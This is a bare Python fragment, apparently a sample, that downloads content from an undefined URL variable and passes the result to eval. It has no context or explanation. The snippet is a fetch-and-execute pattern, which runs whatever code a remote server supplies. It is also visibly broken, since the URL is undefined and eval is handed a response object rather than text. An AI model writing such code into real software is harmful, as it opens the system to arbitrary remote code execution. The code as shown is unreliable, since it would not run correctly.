import requests


def run(x): eval(x)


run(requests.get(u))
